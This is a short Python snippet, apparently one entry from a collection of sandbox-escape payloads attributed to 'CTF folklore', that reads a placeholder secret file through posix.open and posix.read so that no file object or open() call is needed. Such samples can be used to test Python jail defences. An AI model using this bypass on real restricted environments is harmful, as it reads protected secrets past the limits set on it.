# technique: posix.open and posix.read: no file object
# goal: read-secret
# source: CTF folklore
import posix
print(posix.read(posix.open('@SECRET@', posix.O_RDONLY), 200))
